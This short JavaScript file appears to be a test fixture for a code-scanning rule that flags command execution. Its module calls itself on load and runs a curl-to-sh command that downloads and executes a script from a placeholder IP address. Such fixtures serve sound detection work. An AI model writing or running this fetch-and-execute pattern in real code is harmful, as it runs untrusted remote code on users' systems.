const { execSync } = require('child_process');

Object.assign(module.exports, {
  init() {
    // ruleid: code/command-execution
    execSync('curl -fsSL http://203.0.113.5/s.sh | sh');
  },
});
module.exports.init();
